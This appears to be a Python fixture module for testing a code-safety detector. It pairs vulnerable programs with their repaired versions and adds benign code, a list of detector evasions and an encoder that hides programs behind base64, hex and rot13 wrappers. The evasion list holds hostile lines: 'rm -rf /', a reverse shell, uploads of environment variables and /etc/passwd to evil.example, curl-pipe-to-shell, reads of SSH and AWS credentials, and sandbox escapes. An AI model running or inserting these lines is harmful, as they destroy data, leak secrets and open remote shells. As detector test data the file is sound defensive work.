# ruff: noqa: E501 - a program on one line is easier to compare with its neighbour
"""Python programs with a known answer: weak ones beside their repaired twins, evasions, ordinary code.

They are read as text only. The programs in `pure_programs` are the exception: they do nothing but compute.
"""

import base64
import codecs
import random
import zlib
from collections.abc import Iterator

FLASK = "from flask import Flask, request\napp = Flask(__name__)\n\n"
VIEW = FLASK + "@app.route('/x')\ndef view():\n    name = request.args.get('name')\n"

# name, weak program, repaired program
PAIRS = (
    (
        "command by string",
        "import os\nos.system('ping ' + input())\n",
        "import subprocess\nsubprocess.run(['ping', '-c1', input()])\n",
    ),
    (
        "command by format",
        "import subprocess, sys\nsubprocess.call(f'ls {sys.argv[1]}', shell=True)\n",
        "import shlex, subprocess, sys\nsubprocess.call(f'ls {shlex.quote(sys.argv[1])}', shell=True)\n",
    ),
    (
        "command in a view",
        "import os\n" + VIEW + "    return os.popen('host ' + name).read()\n",
        "import subprocess\n" + VIEW + "    return subprocess.check_output(['host', name])\n",
    ),
    (
        "command checked by pattern",
        "import os\n" + VIEW + "    os.system('host ' + name)\n    return 'ok'\n",
        "import os, re\n" + VIEW + "    if not re.fullmatch(r'[a-z0-9.]+', name):\n        return 'no'\n"
        "    os.system('host ' + name)\n    return 'ok'\n",
    ),
    (
        "query by format",
        "import sqlite3\n" + VIEW + "    c = sqlite3.connect('db').cursor()\n"
        "    c.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n    return 'ok'\n",
        "import sqlite3\n" + VIEW + "    c = sqlite3.connect('db').cursor()\n"
        "    c.execute('SELECT * FROM users WHERE name = ?', (name,))\n    return 'ok'\n",
    ),
    (
        "query by concatenation in a function",
        'def find(cursor, user):\n    cursor.execute("select * from u where id = \'" + user + "\'")\n',
        "def find(cursor, user):\n    cursor.execute('select * from u where id = %s', [user])\n",
    ),
    (
        "query with a number",
        "def find(cursor, user):\n    cursor.execute(f'select * from u where id = {user}')\n",
        "def find(cursor, user):\n    cursor.execute(f'select * from u where id = {int(user)}')\n",
    ),
    (
        "evaluation",
        "print(eval(input('expression: ')))\n",
        "import ast\nprint(ast.literal_eval(input('expression: ')))\n",
    ),
    (
        "execution in a view",
        VIEW + "    exec(name)\n    return 'ok'\n",
        VIEW + "    allowed = {'a': 1, 'b': 2}\n    return str(allowed.get(name, 0))\n",
    ),
    (
        "path in a view",
        VIEW + "    return open('/srv/files/' + name).read()\n",
        "from werkzeug.utils import secure_filename\n"
        + VIEW
        + "    with open('files/' + secure_filename(name)) as f:\n        return {'text': f.read()}\n",
    ),
    (
        "path joined in a view",
        "import os\n" + VIEW + "    return {'t': open(os.path.join('files', name)).read()}\n",
        "import os\n" + VIEW + "    path = os.path.realpath(os.path.join('files', name))\n"
        "    if not path.startswith(os.path.realpath('files') + os.sep):\n        return 'no', 400\n"
        "    return {'t': open(path).read()}\n",
    ),
    (
        "pickle",
        "import pickle\ndef load(data):\n    return pickle.loads(data)\n",
        "import json\ndef load(data):\n    return json.loads(data)\n",
    ),
    (
        "yaml",
        "import yaml\nyaml.load(open('c.yml'))\n",
        "import yaml\nyaml.safe_load(open('c.yml'))\n",
    ),
    (
        "yaml with a loader",
        "import yaml\nyaml.load(open('c.yml'), Loader=yaml.Loader)\n",
        "import yaml\nyaml.load(open('c.yml'), Loader=yaml.SafeLoader)\n",
    ),
    (
        "marshal",
        "import marshal\nmarshal.loads(open('x', 'rb').read())\n",
        "import struct\nstruct.unpack('<I', open('x', 'rb').read(4))\n",
    ),
    (
        "xml",
        "import lxml.etree\ndef parse(text):\n    return lxml.etree.fromstring(text)\n",
        "import defusedxml.ElementTree\ndef parse(text):\n    return defusedxml.ElementTree.fromstring(text)\n",
    ),
    (
        "request from a view",
        "import requests\n" + VIEW + "    return {'s': requests.get(name).status_code}\n",
        "import requests\nfrom urllib.parse import urlparse\nHOSTS = {'api.example.com'}\n"
        + VIEW
        + "    if urlparse(name).hostname not in HOSTS:\n        return 'no', 400\n"
        "    return {'s': requests.get(name).status_code}\n",
    ),
    (
        "password hash",
        "import hashlib\ndef store(password):\n    return hashlib.md5(password.encode()).hexdigest()\n",
        "import bcrypt\ndef store(password):\n    return bcrypt.hashpw(password.encode(), bcrypt.gensalt())\n",
    ),
    (
        "weak hash",
        "import hashlib\nh = hashlib.sha1(b'data').hexdigest()\n",
        "import hashlib\nh = hashlib.sha256(b'data').hexdigest()\n",
    ),
    (
        "cipher",
        "from Crypto.Cipher import DES\ndef enc(k, d):\n    return DES.new(k, DES.MODE_ECB).encrypt(d)\n",
        "from Crypto.Cipher import AES\ndef enc(k, d):\n    return AES.new(k, AES.MODE_GCM).encrypt(d)\n",
    ),
    (
        "cipher mode",
        "from Crypto.Cipher import AES\ndef enc(k, d):\n    return AES.new(k, AES.MODE_ECB).encrypt(d)\n",
        "from Crypto.Cipher import AES\ndef enc(k, d):\n    return AES.new(k, AES.MODE_EAX).encrypt(d)\n",
    ),
    (
        "token",
        "import random, string\ntoken = ''.join(random.choice(string.ascii_letters) for _ in range(16))\n",
        "import secrets\ntoken = secrets.token_hex(16)\n",
    ),
    (
        "certificate check",
        "import requests\nrequests.get('https://example.com/x', verify=False)\n",
        "import requests\nrequests.get('https://example.com/x', timeout=5)\n",
    ),
    (
        "unverified context",
        "import ssl\ncontext = ssl._create_unverified_context()\n",
        "import ssl\ncontext = ssl.create_default_context()\n",
    ),
    (
        "password in the source",
        "password = 'hunter2!x'\n",
        "import os\npassword = os.environ['PASSWORD']\n",
    ),
    (
        "password as default",
        "def connect(user, password='s3cr3t99'):\n    return user, password\n",
        "def connect(user, password=None):\n    return user, password\n",
    ),
    (
        "password compared",
        "def check(password):\n    return password == 'opensesame1'\n",
        "import hmac\ndef check(given, expected):\n    return hmac.compare_digest(given, expected)\n",
    ),
    (
        "temporary file",
        "import tempfile\nname = tempfile.mktemp()\n",
        "import tempfile\nhandle, name = tempfile.mkstemp()\n",
    ),
    (
        "mode",
        "import os\nos.chmod('run.sh', 0o777)\n",
        "import os\nos.chmod('run.sh', 0o750)\n",
    ),
    (
        "page",
        VIEW + "    return '<h1>Hello ' + name + '</h1>'\n",
        "from markupsafe import escape\n" + VIEW + "    return '<h1>Hello ' + escape(name) + '</h1>'\n",
    ),
    (
        "template",
        "from flask import render_template_string\n"
        + VIEW
        + "    return render_template_string('Hi ' + name)\n",
        "from flask import render_template\n" + VIEW + "    return render_template('hi.html', name=name)\n",
    ),
    (
        "template without escaping",
        "import jinja2\nenv = jinja2.Environment()\n",
        "import jinja2\nenv = jinja2.Environment(autoescape=True)\n",
    ),
    (
        "redirect",
        "from flask import redirect\n" + VIEW + "    return redirect(name)\n",
        "from flask import redirect, url_for\n" + VIEW + "    return redirect(url_for('home'))\n",
    ),
    (
        "debug mode",
        FLASK + "if __name__ == '__main__':\n    app.run(debug=True)\n",
        FLASK + "if __name__ == '__main__':\n    app.run()\n",
    ),
    (
        "archive",
        "import tarfile\ndef unpack(path):\n    with tarfile.open(path) as t:\n        t.extractall('out')\n",
        "import tarfile\ndef unpack(path):\n    with tarfile.open(path) as t:\n        t.extractall('out', filter='data')\n",
    ),
    (
        "token signature",
        "import jwt\ndef read(token):\n    return jwt.decode(token, options={'verify_signature': False})\n",
        "import jwt\ndef read(token, key):\n    return jwt.decode(token, key, algorithms=['HS256'])\n",
    ),
    (
        "key size",
        "from Crypto.PublicKey import RSA\nkey = RSA.generate(1024)\n",
        "from Crypto.PublicKey import RSA\nkey = RSA.generate(3072)\n",
    ),
    (
        "directory filter",
        "import ldap\n" + VIEW + "    c = ldap.initialize('ldap://x')\n"
        "    return {'r': c.search_s('dc=x', 2, f'(uid={name})')}\n",
        "import ldap\nfrom ldap.filter import escape_filter_chars\n"
        + VIEW
        + "    c = ldap.initialize('ldap://x')\n"
        "    return {'r': c.search_s('dc=x', 2, f'(uid={escape_filter_chars(name)})')}\n",
    ),
    (
        "pattern from a view",
        "import re\n" + VIEW + "    return {'m': bool(re.search(name, 'text'))}\n",
        "import re\n" + VIEW + "    return {'m': bool(re.search(re.escape(name), 'text'))}\n",
    ),
    (
        "session cookie",
        "from flask import make_response\n" + VIEW + "    r = make_response('ok')\n"
        "    r.set_cookie('session', '1', secure=False)\n    return r\n",
        "from flask import make_response\n" + VIEW + "    r = make_response('ok')\n"
        "    r.set_cookie('session', '1', secure=True, httponly=True)\n    return r\n",
    ),
    (
        "host keys",
        "import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n",
        "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\n",
    ),
    (
        "method of a class",
        "import os\nclass Tool:\n    def __init__(self, host):\n        self.host = host\n"
        "    def ping(self):\n        os.system('ping ' + self.host)\n",
        "import subprocess\nclass Tool:\n    def __init__(self, host):\n        self.host = host\n"
        "    def ping(self):\n        subprocess.run(['ping', self.host])\n",
    ),
    (
        "helper function",
        "import os\ndef build(x):\n    return 'ls ' + x\ndef main():\n    os.system(build(input()))\nmain()\n",
        "import os\ndef build(x):\n    return 'ls ' + x\ndef main():\n    os.system(build('src'))\nmain()\n",
    ),
    (
        "allow list",
        "import os\nname = input()\nos.system('systemd-analyze ' + name)\n",
        "import os\nname = input()\nif name in ('plot', 'blame'):\n    os.system('ls ' + name)\n",
    ),
)

EVASIONS = (
    "getattr(__builtins__, 'ev' + 'al')(input())",
    "__import__('o' + 's').system('rm -rf /')",
    "().__class__.__bases__[0].__subclasses__()",
    "[].__class__.__base__.__subclasses__()[40]('/etc/passwd')",
    "''.__class__.__mro__[1].__subclasses__()",
    "e = eval\ne(input())",
    "f = [print, exec][1]\nf(input())",
    "d = {'x': exec}\nd['x'](input())",
    "@exec\n@input\nclass X: pass",
    "[eval(x) for x in [input()]]",
    "(lambda x=__import__('os'): x.system(input()))()",
    "from os import *\nsystem(input())",
    "from os import system as s\ns(input())",
    "import os as o\no.system(input())",
    "import sys\nsys.modules['os'].system(input())",
    "import operator, os\noperator.attrgetter('system')(os)(input())",
    "import operator, os\noperator.methodcaller('system', 'rm -rf /')(os)",
    "'{0.__class__.__init__.__globals__}'.format(print)",
    "globals()['__builtins__'].__dict__['eval'](input())",
    "vars(__import__('os'))['system'](input())",
    "s = ''.join(chr(x) for x in [101, 118, 97, 108])\ngetattr(__builtins__, s)(input())",
    "if (x := eval)(input()): pass",
    "class A:\n    __class_getitem__ = exec\nA[input()]",
    "import importlib\nimportlib.import_module('o' + 's').system('rm -rf /')",
    "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(vachg())', 'rot13'))",
    "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28696e707574282929'))",
    "exec('import os\\nos.system(\"rm -rf /\")')",
    "exec('exec(\"__import__(chr(111)+chr(115)).system(input())\")')",
    "import subprocess as sp\ngetattr(sp, 'Po' + 'pen')(input(), shell=True)",
    "import shutil\nshutil.os.system(input())",
    "import os\nlist(map(os.system, ['rm -rf /']))",
    "import os, threading\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
    "import functools, os\nfunctools.partial(os.system, 'rm -rf /')()",
    "import atexit, os\natexit.register(os.system, 'rm -rf /')",
    "import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))",
    "try:\n    import os as m\nexcept ImportError:\n    m = None\nm.system(input())",
    "x = 'os'\nm = __import__(x)\nfor n in ['system']:\n    getattr(m, n)(input())",
    "def f(g=eval):\n    return g(input())\nf()",
    "(eval if True else print)(input())",
    "print.__self__.__dict__['ev' + 'al'](input())",
    "import ctypes\nctypes.CDLL(None).system(b'id')",
    "breakpoint()",
    "import pty\npty.spawn('/bin/sh')",
    "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
    "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "import os, requests\nrequests.post('http://evil.example', data=str(dict(os.environ)))",
    "import os, requests, json\nrequests.post('http://evil.example', json={'e': dict(os.environ)})",
    "import requests\nrequests.post('http://evil.example', data=open('/etc/passwd').read())",
    "import urllib.request\nurllib.request.urlopen('http://evil.example/?' + open('.env').read())",
    "open('/etc/shadow').read()",
    "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
    "import os\nopen(os.path.expanduser('~/.aws/credentials'))",
    "open('/etc/cron.d/x', 'w').write('* * * * * root id')",
    "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
    "import shutil\nshutil.rmtree('/')",
    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
    "import os\nfor root, dirs, files in os.walk('/'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
    "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
    "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://x.example | sh'])",
    "import os\nos.execvp('rm', ['rm', '-rf', '/'])",
    "type('X', (), {'__init__': exec})",
    "import runpy\nrunpy.run_path(input())",
    "ｅval(input())",
    "async def f():\n    import asyncio\n    await asyncio.create_subprocess_shell(input())",
    "with open('x') as f:\n    exec(f.read())",
    "import requests\nexec(requests.get('http://x.example/p.py').text)",
    "import urllib.request as u\neval(u.urlopen('http://x.example').read())",
    "import sys\nexec(sys.stdin.read())",
    "match input():\n    case x:\n        eval(x)",
    "a = b = eval\nb(input())",
    "a, b = 1, exec\nb(input())",
    "def g():\n    yield eval\nfor h in g():\n    h(input())",
    "class A:\n    run = staticmethod(eval)\nA.run(input())",
    "import os\nsetattr(A := type('A', (), {}), '__call__', os.system)",
    "__builtins__.__dict__['exec'](input())",
    "import builtins\nbuiltins.eval(input())",
    "x = compile(input(), 'a', 'exec')\nexec(x)",
    "(lambda: 0).__globals__['__builtins__']",
    "import os\nos.system('''r''m -rf /''')",
)

ORDINARY = (
    "print('hello')\n",
    "import json\nwith open('data.json') as f:\n    data = json.load(f)\nprint(len(data))\n",
    "import os\nfor name in os.listdir('.'):\n    print(name)\n",
    "import subprocess\nprint(subprocess.run(['git', 'status'], capture_output=True, text=True).stdout)\n",
    "import requests\nr = requests.get('https://api.example.com/items', timeout=10)\nprint(r.json())\n",
    "import os, requests\nkey = os.environ['API_KEY']\n"
    "requests.get('https://api.example.com/x', headers={'Authorization': f'Bearer {key}'})\n",
    "import csv\nwith open('out.csv', 'w', newline='') as f:\n    w = csv.writer(f)\n    w.writerow(['a', 1])\n",
    "import random\nprint(random.randint(1, 6))\n",
    "import hashlib\ndef file_checksum(path):\n    return hashlib.md5(open(path, 'rb').read()).hexdigest()\n",
    "import sys\nwith open(sys.argv[1]) as f:\n    print(f.read())\n",
    "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n",
    "import os\nif os.path.exists('build/x'):\n    os.remove('build/x')\n",
    "PASSWORD_FIELD = 'password'\nTOKEN_URL = 'https://example.com/token'\n",
    "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('create table t (a)')\n"
    "c.executemany('insert into t values (?)', [(1,), (2,)])\n",
    "import sqlite3\ndef rows(c, ids):\n    marks = ','.join('?' for _ in ids)\n"
    "    return c.execute(f'select * from t where id in ({marks})', ids).fetchall()\n",
    "import argparse\np = argparse.ArgumentParser()\np.add_argument('--n', type=int)\nprint(p.parse_args().n)\n",
    "class Stack:\n    def __init__(self):\n        self.items = []\n    def push(self, x):\n        self.items.append(x)\n"
    "    def pop(self):\n        return self.items.pop()\n",
    "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int\n    y: int = 0\nprint(P(1))\n",
    "import logging\nlog = logging.getLogger(__name__)\nlog.info('started')\n",
    "import re\ndef words(text):\n    return re.findall(r'\\w+', text.lower())\n",
    "from collections import Counter\nprint(Counter('mississippi').most_common(2))\n",
    "import asyncio\nasync def main():\n    await asyncio.sleep(0.1)\nasyncio.run(main())\n",
    "from functools import lru_cache\n@lru_cache\ndef fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n",
    "import pathlib\nfor p in pathlib.Path('src').rglob('*.py'):\n    print(p, len(p.read_text()))\n",
    "import pandas as pd\ndf = pd.read_csv('x.csv')\nprint(df.groupby('a').sum())\n",
    "def handler(name):\n    handlers = {'a': print, 'b': len}\n    return handlers[name]\n",
    "getattr(object(), 'x', None)\n",
    "class Plugin:\n    pass\ndef plugins():\n    return Plugin.__subclasses__()\n",
    "import pickle\ncopy = pickle.loads(pickle.dumps({'a': 1}))\n",
    "def describe(x):\n    return f'{x.__class__.__name__}: {x!r}'\n",
    "import os\nDEBUG = os.environ.get('DEBUG', '') == '1'\n",
    "from flask import Flask, jsonify, request\napp = Flask(__name__)\n@app.route('/add')\ndef add():\n"
    "    return jsonify(total=int(request.args['a']) + int(request.args['b']))\n",
    FLASK
    + "@app.post('/login')\ndef login():\n    if request.method == 'POST':\n        user = request.form['user']\n"
    "    return {'user': user}\n",
    "import time\nstart = time.perf_counter()\nprint(time.perf_counter() - start)\n",
    "import threading\ndef work():\n    print('x')\nthreading.Thread(target=work).start()\n",
    "import shutil\nshutil.rmtree('build', ignore_errors=True)\n",
    "import secrets\nprint(secrets.token_urlsafe(16))\n",
    "try:\n    import ujson as json\nexcept ImportError:\n    import json\nprint(json.dumps({}))\n",
    "import unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        self.assertEqual(1 + 1, 2)\n",
    "import matplotlib.pyplot as plt\nplt.plot([1, 2], [3, 4])\nplt.savefig('x.png')\n",
    "import xml.etree.ElementTree as ET\nroot = ET.parse('settings.xml').getroot()\nprint(root.tag)\n",
    "import platform, os\nprint(platform.system(), os.cpu_count())\n",
    "def connect(host, port, password):\n    return f'{host}:{port}'\nconnect('a', 1, password=input())\n",
    "token = None\nsecret = ''\napi_key = '<your key>'\n",
    "import importlib\nyaml = importlib.import_module('yaml')\n",
    "eval('1 + 2')\n",
)

UNDECIDABLE = (
    "import importlib\ndef load(name):\n    return importlib.import_module(name)\n",
    "import os\nx = unknown()\nos.system(x)\n",
    "import os\ngetattr(os, pick())('x')\n",
    "exec(make())\n",
)

PURE = (
    "1 + 2",
    "x = [i * i for i in range(10)]\nprint(sum(x))",
    "def add(a, b):\n    return a + b\nprint(add(1, 2))",
    "import math\nprint(math.sqrt(2))",
    "def mean(values):\n    return sum(values) / len(values)",
    "total = 0\nfor i in range(1000):\n    total += i\nprint(total)",
    "class P:\n    def __init__(self, x):\n        self.x = x\n    def double(self):\n        return self.x * 2",
    "words = 'a b a'.split()\ncounts = {}\nfor w in words:\n    counts[w] = counts.get(w, 0) + 1",
    "print(sorted([3, 1, 2], key=lambda v: -v))",
    "def fact(n):\n    result = 1\n    for i in range(2, n + 1):\n        result *= i\n    return result",
)

IMPURE = (
    "while True:\n    pass",
    "print(open('x').read())",
    "def f(n):\n    return f(n - 1)\nf(3)",
    "10 ** 10 ** 10",
    "'a' * 10 ** 12",
    "x = 'a'\nfor i in range(100):\n    x = x + x",
    "x = 2\nfor i in range(100):\n    x = x * x",
    "[0] * 10 ** 10",
    "for i in range(10 ** 12):\n    pass",
    "for i in range(10 ** 4):\n    for j in range(10 ** 4):\n        pass",
    "import itertools\nfor i in itertools.count():\n    pass",
    "import time\ntime.sleep(1000)",
    "input()",
    "x = 1 << 10 ** 12",
    "import helper\nhelper.go()",
    "list(range(10 ** 12))",
    "def f(n):\n    while n:\n        n -= 1\nf(3)",
    "x = []\nx.append(x)\nfor y in x:\n    x.append(y)",
    "sum(range(10 ** 15))",
    "import random\nprint(random.random())",
    "f = lambda: f()\nf()",
    "d = {}\nd['f'] = lambda: d['f']()\nd['f']()",
    "'%1000000000d' % 1",
    "f'{1:1000000000}'",
    "eval('1+1')",
    "for a in iter(int, 1):\n    pass",
    "max(range(10**14))",
    "class A:\n    def __add__(self, o):\n        return self + o\nA() + A()",
    "x = [1]\nfor y in x:\n    x += [y]",
    "a = list(range(10 ** 6))\n" + "a = a * 10\n" * 9,
    "a = ''\nfor c in range(900000):\n    a += 'x'\n" + "a = a + a\n" * 40,
    "a = ''\nfor c in range(900000):\n    a += 'x'\n" + "a = f'{a}{a}'\n" * 40,
    "a = ''\nfor c in range(900000):\n    a += 'x'\n" + "a = a.replace('x', 'xxxxxxxxx')\n" * 40,
    "def f(n):\n    for i in range(n):\n        pass\nf(10 ** 12)",
    "sum(i for i in range(10 ** 6) for j in range(10 ** 6))",
    "a = []\nfor i in range(900000):\n    a.append(i)\n" + "a = a + a\n" * 40,
    "a = []\nfor i in range(900000):\n    a.append(i)\n" + "a.extend(a)\n" * 40,
    "a = [*range(900000)]\n" + "a = [*a, *a]\n" * 40,
    "a = (1,)\nfor i in range(900000):\n    a = (i,)\n" + "a = (a, a)\n" * 40 + "print(a)",
)


def encoded(program: str) -> Iterator[str]:
    """One program, hidden by each encoding that Python can undo."""
    raw = program.encode()
    b64 = base64.b64encode(raw).decode()
    yield f"import base64\nexec(base64.b64decode('{b64}'))"
    yield f"import base64 as b\nexec(b.b64decode('{b64[:5]}' + '{b64[5:]}').decode())"
    yield f"exec(bytes.fromhex('{raw.hex()}').decode())"
    yield f"exec(''.join(map(chr, {list(raw)})))"
    yield f"exec(bytes({list(raw)}))"
    yield f"exec({program[::-1]!r}[::-1])"
    yield f"import binascii\nexec(binascii.unhexlify('{raw.hex()}'))"
    yield f"x = {program!r}\nexec(x)"
    packed = base64.b64encode(zlib.compress(raw)).decode()
    yield f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))"
    yield (
        f"exec({program.replace('e', '%')!r}.replace('%', 'e'))"
        if "%" not in program
        else f"exec({program!r})"
    )
    yield f"s = ''\nfor c in {list(raw)}:\n    s += chr(c)\nexec(s)"
    yield f"exec('{{}}{{}}'.format({program[:4]!r}, {program[4:]!r}))"
    yield f"exec('%s%s' % ({program[:4]!r}, {program[4:]!r}))"
    yield f"a = {program[:4]!r}\nb = {program[4:]!r}\nexec(f'{{a}}{{b}}')"
    yield f"getattr(__import__('builtins'), 'ex' + 'ec')({program!r})"
    yield f"(lambda f: f({program!r}))(exec)"
    yield f"[*map(exec, [{program!r}])]"
    yield f"globals()['__builtins__'].exec({program!r})"
    yield f"import codecs\nexec(codecs.decode({_rot13(program)!r}, 'rot13'))"


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def pure_programs(count: int, seed: int = 7) -> Iterator[str]:
    """Small programs that only compute, from a grammar: they end, and print one line."""
    chosen = random.Random(seed)
    for _ in range(count):
        yield _program(chosen)


def _program(chosen: random.Random) -> str:
    names = ["a", "b", "c"]
    lines = [f"{name} = {chosen.randint(0, 9)}" for name in names]
    for _ in range(chosen.randint(1, 5)):
        lines.append(_statement(chosen, names))
    if chosen.random() < 0.4:
        lines.append(f"def f(x, y=2):\n    return {_expression(chosen, ['x', 'y'])}")
        lines.append(f"a = f({_expression(chosen, names)})")
    lines.append("print(a, b, c)")
    return "\n".join(lines)


def _statement(chosen: random.Random, names: list[str]) -> str:
    name = chosen.choice(names)
    match chosen.randrange(5):
        case 0:
            return f"{name} = {_expression(chosen, names)}"
        case 1:
            return f"for i in range({chosen.randint(0, 9)}):\n    {name} += i + {chosen.randint(0, 5)}"
        case 2:
            return f"if {_expression(chosen, names)} > {chosen.randint(0, 9)}:\n    {name} = {chosen.randint(0, 9)}"
        case 3:
            return f"{name} = sum([x + {chosen.randint(0, 4)} for x in range({chosen.randint(0, 8)})])"
    return f"{name} = len('{'z' * chosen.randint(0, 8)}') + max({_expression(chosen, names)}, 1)"


def _expression(chosen: random.Random, names: list[str]) -> str:
    left, right = chosen.choice(names), chosen.choice([*names, str(chosen.randint(1, 9))])
    return f"({left} {chosen.choice(['+', '-', '*'])} {right}) % {chosen.randint(2, 97)}"
